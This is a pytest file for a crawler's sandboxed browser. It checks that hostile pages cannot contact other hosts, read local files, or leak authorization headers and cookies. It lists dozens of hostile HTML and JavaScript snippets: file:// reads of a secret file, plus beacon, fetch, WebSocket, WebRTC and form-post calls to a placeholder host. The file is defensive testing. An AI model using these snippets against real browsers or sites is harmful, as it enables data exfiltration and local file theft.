"""What a hostile page can not do in the browser: reach another host or address, leak a header, or read a file (L7, X-O7)."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from typing import Final

import pytest

from searchcrawl.render.browser_request import DecodedAnswer
from tests.page_wall import SITE, RunningBrowser
from tests.tcp_server import TcpServer

_SECRET: Final = "secret-of-a-file"


class Listener(TcpServer):
    """TCP and UDP on one port of loopback; whatever arrives is kept."""

    def __init__(self) -> None:
        super().__init__(seconds=1)
        self.got: list[bytes] = []
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.port))
        self._open.append(self._udp)
        self._start(self._receive)

    def serve(self, connection: socket.socket) -> None:
        try:
            self.got.append(b"tcp " + connection.recv(1000))
        except OSError:
            self.got.append(b"tcp")

    def _receive(self) -> None:
        got = self._udp.recv(1000)
        while not self.stopping.is_set():
            self.got.append(b"udp " + got)
            got = self._udp.recv(1000)


#: Each is put into a page of its own; HOST is a listener on loopback, FILE a file of this machine.
_MARKUP: Final = {
    "frame": "<iframe src=http://HOST/></iframe>",
    "frame of a file": "<iframe src=file://FILE></iframe>",
    "frame srcdoc": "<iframe srcdoc='<img src=http://HOST/>'></iframe>",
    "frame data": "<iframe src='data:text/html,<img src=http://HOST/>'></iframe>",
    "image": "<img src=http://HOST/>",
    "image srcset": "<img srcset='http://HOST/ 1x'>",
    "picture": "<picture><source srcset=http://HOST/><img></picture>",
    "script": "<script src=http://HOST/></script>",
    "module": "<script type=module>import 'http://HOST/x.js'</script>",
    "style": "<link rel=stylesheet href=http://HOST/>",
    "style import": "<style>@import url(http://HOST/)</style>",
    "style url": "<style>body { background: url(http://HOST/) }</style>",
    "font": "<style>@font-face { font-family: f; src: url(http://HOST/) } p { font-family: f }</style><p>x",
    "icon": "<link rel=icon href=http://HOST/>",
    "preload": "<link rel=preload as=script href=http://HOST/>",
    "modulepreload": "<link rel=modulepreload href=http://HOST/>",
    "prefetch": "<link rel=prefetch href=http://HOST/>",
    "preconnect": "<link rel=preconnect href=http://HOST/>",
    "dns-prefetch": "<link rel=dns-prefetch href=//HOST/>",
    "manifest": "<link rel=manifest href=http://HOST/>",
    "speculation": '<script type=speculationrules>{"prerender": [{"source": "list", "urls": ["http://HOST/"]}]}</script>',
    "object": "<object data=http://HOST/></object>",
    "embed": "<embed src=http://HOST/>",
    "svg image": "<svg><image href=http://HOST/ /></svg>",
    "svg use": "<svg><use href=http://HOST/a.svg#x /></svg>",
    "video": "<video src=http://HOST/ autoplay></video>",
    "video poster": "<video poster=http://HOST/></video>",
    "track": "<video src=/v.mp4><track default src=http://HOST/></video>",
    "audio": "<audio src=http://HOST/ autoplay></audio>",
    "input image": "<input type=image src=http://HOST/>",
    "body background": "<body background=http://HOST/>",
    "ping": "<a id=a href=/x ping=http://HOST/ target=f>x</a><iframe name=f></iframe><script>a.click()</script>",
    "download": "<a id=a href=http://HOST/ download>x</a><script>a.click()</script>",
    "form post": "<form id=f method=post action=http://HOST/ target=_blank></form><script>f.submit()</script>",
    "form in frame": "<iframe name=n></iframe><form id=f action=http://HOST/ target=n></form><script>f.submit()</script>",
    "meta refresh": "<meta http-equiv=refresh content='0; url=http://HOST/'>",
    "csp report": "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri http://HOST/\"><img src=/x>",
}
_CODE: Final = {
    "navigation": "location.href = 'http://HOST/'",
    "navigation to a file": "location.href = 'file://FILE'",
    "fetch": "fetch('http://HOST/').catch(() => 0)",
    "fetch without cors": "fetch('http://HOST/', {mode: 'no-cors', credentials: 'include'}).catch(() => 0)",
    "fetch post": "fetch('http://HOST/', {method: 'POST', body: 'x', mode: 'no-cors'}).catch(() => 0)",
    "fetch keepalive": "fetch('http://HOST/', {keepalive: true, mode: 'no-cors'}).catch(() => 0)",
    "fetch of a file": "fetch('file://FILE').then(r => r.text()).then(t => document.body.append(t)).catch(() => 0)",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/'); x.send()",
    "sync xhr": "try { const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/', false); x.send() } catch (e) {}",
    "beacon": "navigator.sendBeacon('http://HOST/', 'x')",
    "event source": "new EventSource('http://HOST/')",
    "web socket": "new WebSocket('ws://HOST/')",
    "web socket to the site": "new WebSocket('ws://site.test/')",
    "web transport": "try { new WebTransport('https://HOST/') } catch (e) {}",
    "worker": "try { new Worker('http://HOST/') } catch (e) {}",
    "worker that fetches": (
        "new Worker(URL.createObjectURL(new Blob([`fetch('http://HOST/', {mode: 'no-cors'}).catch(() => 0);"
        "new WebSocket('ws://HOST/'); try { importScripts('http://HOST/') } catch (e) {}`])))"
    ),
    "shared worker": "try { new SharedWorker(URL.createObjectURL(new Blob([`fetch('http://HOST/')`]))) } catch (e) {}",
    "service worker": "navigator.serviceWorker && navigator.serviceWorker.register('/sw.js').catch(() => 0)",
    "popup": "window.open('http://HOST/')",
    "popup by a link": "const a = document.createElement('a'); a.href = 'http://HOST/'; a.target = '_blank'; a.click()",
    "popup of a frame": (
        "const f = document.createElement('iframe'); document.body.append(f);"
        "try { f.contentWindow.open('http://HOST/') } catch (e) {}"
    ),
    "webrtc": (
        "const f = document.createElement('iframe'); document.body.append(f); const R = f.contentWindow.RTCPeerConnection;"
        "if (R) { const p = new R({iceServers: [{urls: 'stun:HOST'}, {urls: 'turn:HOST?transport=tcp', username: 'u',"
        "credential: 'c'}]}); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)) }"
    ),
    "redirect of a resource": "fetch('/away', {mode: 'no-cors'}).catch(() => 0)",
    "redirect of a frame": ("const f = document.createElement('iframe'); f.src = '/away'; document.body.append(f)"),
    "excluded path": "fetch('/private/x').then(r => r.text()).then(t => document.body.append(t)).catch(() => 0)",
    "print": "print()",
    "protocol": "location.href = 'ftp://HOST/'",
    "clipboard and files": "navigator.clipboard && navigator.clipboard.readText().catch(() => 0)",
    "chrome pages": "location.href = 'chrome://version'",
    "view source": "location.href = 'view-source:file://FILE'",
    "javascript url in a frame": (
        "const f = document.createElement('iframe'); f.src = 'javascript:fetch(`http://HOST/`)'; document.body.append(f)"
    ),
    "paint worklet": "CSS.paintWorklet && CSS.paintWorklet.addModule('http://HOST/').catch(() => 0)",
    "audio worklet": "new AudioContext().audioWorklet?.addModule('http://HOST/').catch(() => 0)",
    "background sync": "navigator.serviceWorker && navigator.serviceWorker.ready.then(r => r.sync.register('x'))",
    "dynamic import": "import('http://HOST/x.js').catch(() => 0)",
    "font face": "new FontFace('f', 'url(http://HOST/)').load().catch(() => 0)",
    "image object": "new Image().src = 'http://HOST/'",
}
_PAGES: Final = _MARKUP | {name: f"<p>x</p><script>{code}</script>" for name, code in _CODE.items()}


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    with Listener() as opened:
        yield opened


@pytest.mark.parametrize("name", _PAGES)
def test_page_reaches_nothing_but_what_it_may(
    running: RunningBrowser, listener: Listener, name: str, tmp_path_factory: pytest.TempPathFactory
) -> None:
    file = tmp_path_factory.mktemp("files") / "file.txt"
    file.write_text(_SECRET, encoding="utf-8")
    host = f"127.0.0.1:{listener.port}"
    away = DecodedAnswer(f"{SITE}/away", 302, (("location", f"http://{host}/"),), b"")
    running.wall.pages |= {f"{SITE}/away": away, f"{SITE}/sw.js": f"fetch('http://{host}/')"}
    running.wall.asked.clear()
    html = _PAGES[name].replace("HOST", host).replace("FILE", str(file))

    page = running.render("/hostile", f"<!DOCTYPE html><title>t</title><body>{html}</body>")

    assert listener.got == []
    assert _SECRET not in page.html
    assert {url for _, url in running.wall.asked} <= {f"{SITE}{path}" for path in ("/hostile", "/x", "/away", "/v.mp4")}
    if not page.redirects:
        assert page.url == f"{SITE}/hostile"


def test_listener_hears_what_is_sent_to_it() -> None:
    """The test above would see it."""
    with Listener() as opened:
        with socket.create_connection(("127.0.0.1", opened.port)) as connection:
            connection.sendall(b"hello")
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(b"hello", ("127.0.0.1", opened.port))
        for _ in range(100):
            if len(opened.got) == 2:
                break
            opened.stopping.wait(0.02)

    assert sorted(opened.got) == [b"tcp hello", b"udp hello"]


def test_headers_of_a_script_go_to_the_host_of_its_page_only(running: RunningBrowser) -> None:
    running.wall.pages |= {f"{SITE}/own.json": "{}", "http://scripts.test/a.js": "1"}
    code = (
        "fetch('/own.json', {headers: {authorization: 'Bearer x', 'x-key': 'y', 'if-none-match': 'z'}});"
        "import('http://scripts.test/a.js').catch(() => 0)"
    )
    running.render("/headers", f"<body><script type=module>{code}</script>")

    own = running.wall.headers[f"{SITE}/own.json"]
    other = running.wall.headers["http://scripts.test/a.js"]
    assert (own["authorization"], own["x-key"]) == ("Bearer x", "y")
    assert not {"authorization", "x-key", "if-none-match"} & set(other)


def test_cookie_of_an_answer_or_a_script_goes_to_its_host_and_to_no_other_page(running: RunningBrowser) -> None:
    running.wall.pages |= {
        f"{SITE}/cookie.json": DecodedAnswer(f"{SITE}/cookie.json", 200, (("set-cookie", "a=secret"),), b"{}"),
        f"{SITE}/after.json": "{}",
        "http://scripts.test/cookies.js": "1",
    }
    code = (
        "document.cookie = 'b=secret'; fetch('/cookie.json').then(() => fetch('/after.json'))"
        ".then(() => import('http://scripts.test/cookies.js')).catch(() => 0)"
    )
    running.render("/cookies", f"<body><script>{code}</script>")
    running.render("/later", "<body><script>fetch('/cookie.json')</script>")

    assert set(running.wall.headers[f"{SITE}/after.json"]["cookie"].split("; ")) == {"a=secret", "b=secret"}
    assert "cookie" not in running.wall.headers["http://scripts.test/cookies.js"]
    assert all("cookie" not in running.wall.headers[f"{SITE}{path}"] for path in ("/later", "/cookie.json"))
